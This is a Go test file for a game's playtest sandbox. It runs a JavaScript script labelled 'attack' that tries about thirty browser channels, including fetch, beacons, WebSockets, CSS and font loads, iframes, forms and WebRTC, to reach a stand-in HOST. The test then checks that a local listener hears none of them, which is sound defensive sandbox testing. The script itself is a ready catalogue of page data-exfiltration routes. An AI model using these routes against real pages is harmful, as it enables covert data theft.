package playtest

import (
	"context"
	"net"
	"strings"
	"testing"

	"github.com/svc-games/svc/test/wait"
)

// attack tries every way out that a page has. HOST is a place that would answer.
const attack = `
window.attack = () => {
window.tried = [];
const attempt = (name, run) => {
  try {
    const made = run();
    if (made && made.catch) made.catch(() => 0);
    window.tried.push(name);
  } catch (e) { window.tried.push(name + ' threw'); }
};
const element = (tag, set) => document.body.appendChild(Object.assign(document.createElement(tag), set));
const there = (path) => 'http://HOST/' + path;
attempt('fetch', () => fetch(there('fetch'), { mode: 'no-cors' }));
attempt('fetch at home', () => fetch('/stolen?x=1'));
attempt('keepalive', () => fetch(there('keepalive'), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }));
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', there('xhr')); x.send(); });
attempt('beacon', () => navigator.sendBeacon(there('beacon'), 'x'));
attempt('websocket', () => new WebSocket('ws://HOST/ws'));
attempt('eventsource', () => new EventSource(there('events')));
attempt('image', () => { new Image().src = there('image'); });
attempt('css', () => element('style', { textContent: '@import "' + there('css') + '"; body { background: url(' + there('bg') + ') }' }));
attempt('font', () => new FontFace('f', 'url(' + there('font') + ')').load());
attempt('script', () => element('script', { src: there('script') }));
attempt('module', () => import(there('module.js')));
attempt('stylesheet', () => element('link', { rel: 'stylesheet', href: there('style') }));
attempt('prefetch', () => element('link', { rel: 'prefetch', href: there('prefetch') }));
attempt('preconnect', () => element('link', { rel: 'preconnect', href: there('') }));
attempt('preload', () => element('link', { rel: 'preload', as: 'image', href: there('preload') }));
attempt('speculation', () => element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [there('rules')] }] }) }));
attempt('video', () => element('video', { src: there('video'), preload: 'auto' }));
attempt('frame', () => element('iframe', { src: there('frame') }));
attempt('frame with a page of its own', () => element('iframe', { srcdoc: '<img src="' + there('srcdoc') + '">' }));
attempt('object', () => element('object', { data: there('object') }));
attempt('embed', () => element('embed', { src: there('embed') }));
attempt('form', () => { const f = element('form', { action: there('form'), method: 'post', target: '_blank' }); f.submit(); });
attempt('form here', () => { const f = element('form', { action: there('here') }); f.submit(); });
attempt('ping', () => element('a', { href: '#x', ping: there('ping') }).click());
attempt('open', () => window.open(there('open')));
attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + there('worker') + '")'], { type: 'text/javascript' }))));
attempt('serviceworker', () => navigator.serviceWorker.register('/game.js'));
attempt('transport', () => new WebTransport('https://HOST/wt'));
window.gathered = new Promise((done) => {
  attempt('webrtc', () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }, { urls: 'turn:HOST?transport=tcp', username: 'u', credential: 'c' }] });
    pc.createDataChannel('x');
    pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && done('complete');
    return pc.createOffer().then((offer) => pc.setLocalDescription(offer)).catch((e) => done(String(e)));
  });
  if (!window.tried.includes('webrtc')) done('there is none');
});
return window.tried;
};
`

// ears hear who comes to a place on this machine, over TCP and UDP.
type ears struct {
	host, udp string
	heard     chan string
}

func listen(t *testing.T) *ears {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &ears{host: l.Addr().String(), udp: u.LocalAddr().String(), heard: make(chan string, 100)}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			e.heard <- "TCP"
			c.Close()
		}
	}()
	go func() {
		for buf := make([]byte, 2048); ; {
			if _, _, err := u.ReadFrom(buf); err != nil {
				return
			}
			e.heard <- "UDP"
		}
	}()
	t.Cleanup(func() {
		l.Close()
		u.Close()
	})
	return e
}

// reached sends a word each way and waits until both were heard.
func (e *ears) reached(t *testing.T) {
	t.Helper()
	for network, address := range map[string]string{"tcp": e.host, "udp": e.udp} {
		c, err := net.Dial(network, address)
		if err == nil {
			_, err = c.Write([]byte("x"))
			c.Close()
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for range 2 {
		wait.For(t, "a word that is heard", e.heard)
	}
}

func TestGameReachesNoNetworkFromItsPlaytest(t *testing.T) {
	testBrowser(t)                   // skips where there is none
	b, err := Start(t.Context(), "") // of its own: what it leaves open is no other test's
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	e := listen(t)
	script := sound + strings.NewReplacer("HOST", e.host, "UDP", e.udp).Replace(attack)
	p := seated(t, b, script)
	tried, err := Eval[[]string](p.Page, "window.attack()")
	if err != nil || len(tried) < 28 {
		t.Fatalf("it tried %q, %v", tried, err)
	}
	ctx, cancel := wait.Context(t)
	defer cancel()
	context.AfterFunc(ctx, p.Close)
	gathered, err := Eval[string](p.Page, "window.gathered")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.play("mash", 120, "never"); err != nil {
		t.Fatal(err)
	}
	t.Logf("tried %d ways; WebRTC: %s", len(tried), gathered)
	for led := len(e.heard); led > 0; led-- {
		t.Errorf("one of them led out over %s", <-e.heard)
	}
	e.reached(t) // so it would have been heard
}
